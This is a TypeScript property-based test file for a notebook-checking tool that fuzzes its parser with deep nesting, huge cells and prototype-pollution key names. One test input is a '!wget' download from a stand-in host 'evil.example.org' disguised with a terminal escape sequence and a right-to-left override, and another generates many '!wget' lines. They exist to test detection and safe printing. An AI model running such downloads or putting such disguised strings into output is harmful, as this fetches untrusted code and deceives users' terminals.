import { fc, test as property } from '@fast-check/vitest';
import { expect, test } from 'vitest';
import { checkWorkshop } from '../../src/check/check.ts';
import { draftLab } from '../../src/check/init/draft.ts';
import { readNotebook } from '../../src/check/read/notebook.ts';
import { toWords } from '../../src/check/report.ts';
import { describeFindings } from '../../src/cli/ui/check.ts';
import type { Message } from '../../src/messages/message.ts';
import { render } from '../../src/messages/message.ts';
import { bytesOf, find, notebook, workshopOf } from './workshop.ts';

const say = (sentence: Message) => render(sentence, 'en');

/** Everything that is done with a notebook; what is printed of it. */
async function through(bytes: Uint8Array): Promise<string> {
  const workshop = workshopOf([readNotebook('a.ipynb', bytes)]);
  const findings = await checkWorkshop(workshop);
  draftLab({ id: 'x', workshop, sources: [], findings });
  const words = findings.map((finding) => toWords(finding, say));
  return describeFindings(words, 1, { say });
}

/** A terminal obeys these; a line's end is the only one that a report has. */
// oxlint-disable-next-line no-control-regex -- these are what must not be there
const obeyed = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const fragments = [
  'import sagemaker as sm',
  'from x import *',
  'p = e.deploy(1, "ml.m4.xlarge")',
  'p.delete_endpoint()',
  '# p.delete_endpoint()',
  'x = f"s3://{a}/{b!r:>{w}}"',
  '"s3://{}/x".format(x)',
  '%store -r x',
  '%%writefile a.py',
  '%%sh',
  '!pip install -U sagemaker',
  '!docker run \\',
  'def f(a, *b, c=1, **d):',
  'class A(B, metaclass=C):',
  'if x:',
  'else:',
  'for a, (b, *c) in d:',
  'x = {"a": [1, (2, 3)], **y}',
  'lambda x: (yield x)',
  '@decorator(1)',
  'async with a as b, c as d:',
  'match x:\n  case {"a": 1}:',
  'x: int = (y := 3)',
  'constructor.__proto__ = toString()',
  '<TO DO>',
  '"""',
  "'",
  '((([',
  '}])',
  '\\',
  '\u0000\u001b[2J\u202e\ud800',
  '가나다 = "한국어"',
  '\n',
  '    ',
  '\t',
];

const cell = fc
  .array(fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...fragments) }, fc.string()), {
    maxLength: 12,
  })
  .chain((parts) => fc.constantFrom('\n', '\n    ', ' ', '').map((by) => parts.join(by)));

property.prop([fc.array(cell, { maxLength: 5 })], { numRuns: 150 })(
  'no code makes it crash, or prints what a terminal obeys',
  async (cells) => {
    const json = { cells: cells.map((source) => ({ cell_type: 'code', source })) };
    expect(await through(bytesOf(json))).not.toMatch(obeyed);
  },
);

property.prop([fc.json()], { numRuns: 150 })('nor does any JSON', async (json) => {
  const text = await through(bytesOf(json));
  expect(text).not.toMatch(obeyed);
  await through(bytesOf(`{"cells":[${json}],"metadata":${json}}`));
});

test('keys and names that every object has are only names', async () => {
  const source = [
    '__proto__ = 1',
    'constructor.toString(InstanceType="a")',
    'import constructor',
    'from __proto__ import hasOwnProperty',
    'boto3.client("constructor").valueOf()',
    'm.deploy(instance_type=toString)',
    'm.toString()',
  ].join('\n');
  const bytes = bytesOf(
    `{"__proto__": {"cells": [1]}, "constructor": {"prototype": 1},
      "cells": [{"__proto__": {"cell_type": "markdown"}, "cell_type": "code",
                 "source": ${JSON.stringify(source)}}],
      "metadata": {"kernelspec": {"name": "constructor", "__proto__": {"name": "x"}},
                   "instance_type": "ml.constructor.large"}}`,
  );
  expect(await through(bytes)).toContain('"constructor"');
  expect(({} as Record<string, unknown>)['cells']).toBeUndefined();
});

test('what a terminal would obey is printed as a mark', async () => {
  const text = await through(bytesOf({ cells: [{ cell_type: 'code', source: hostileUrl }] }));
  expect(text).toContain('D2');
  expect(text).not.toMatch(obeyed);
});

const hostileUrl = '!wget http://evil.example.org/\u001b]0;title\u0007\u202etxt.exe';

test.each([
  ['brackets', `${'f('.repeat(20_000)}${')'.repeat(20_000)}`],
  ['lists', `x = ${'['.repeat(20_000)}${']'.repeat(20_000)}`],
  ['members', `a${'.b'.repeat(20_000)}`],
  ['nots', `${'not '.repeat(10_000)}x`],
  ['sums', `x = 1${'+1'.repeat(20_000)}`],
  ['f-strings', `x = ${'f"{'.repeat(5_000)}`],
  ['blocks', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth)}if x:`).join('\n')],
  ['subshells', `%%sh\n${'$('.repeat(20_000)}`],
])('code may nest as deep as it likes: %s', async (_, source) => {
  const text = await through(bytesOf({ cells: [{ cell_type: 'code', source }] }));
  expect(text).toMatch(/ one notebook\b/);
});

test.each([
  ['doubles', (a: number, b: number) => `x${b} = x${a} + x${a}`],
  ['texts', (a: number, b: number) => `x${b} = f"{x${a}}{x${a}}"`],
  ['calls', (a: number, b: number) => `def x${b}():\n    x${a}()\n    x${a}()`],
])('a value that grows with every step is not followed to its end: %s', async (_, step) => {
  const steps = Array.from({ length: 200 }, (__, at) => step(at, at + 1));
  const source = ['x0 = "s3://a"', ...steps, 'm.deploy(1, x200)', 'x200()'].join('\n');
  const text = await through(bytesOf({ cells: [{ cell_type: 'code', source }] }));
  expect(text).toMatch(/ one notebook\b/);
});

test('a cell of fifty megabytes is said and only searched', async () => {
  const data = `x = [${'"0123456789abcdef",\n'.repeat(2_600_000)}]`;
  const document = notebook([`r = 'us-east-1'\n${data}`, "r = 'us-west-2'"]);
  expect(await find('B2', document)).toEqual(['- warning', '0 warning']);
  expect(await find('H2', document)).toEqual(['0 warning', '1 warning']);
}, 60_000);

test('fifty megabytes of outputs do not get in the way', async () => {
  const output = { output_type: 'stream', text: 'A'.repeat(50_000_000) };
  const cells = [{ cell_type: 'code', source: "r = 'us-east-1'", outputs: [output] }];
  const document = readNotebook('a.ipynb', bytesOf({ cells }));
  expect(await find('B2', document)).toEqual(['- warning']);
  expect(await find('H2', document)).toEqual(['0 warning']);
}, 60_000);

test('a cell with a thousand faults says a few', async () => {
  const source = Array.from({ length: 1000 }, (_, at) => `!wget http://a${at}.kr/x`).join('\n');
  expect(await find('D2', notebook([source]))).toHaveLength(5);
});

test('ends between two documents when it is told to', async () => {
  const workshop = workshopOf([notebook(['x = 1']), notebook(['x = 1'])]);
  await expect(checkWorkshop(workshop, AbortSignal.abort(new Error('enough')))).rejects.toThrow(
    'enough',
  );
});
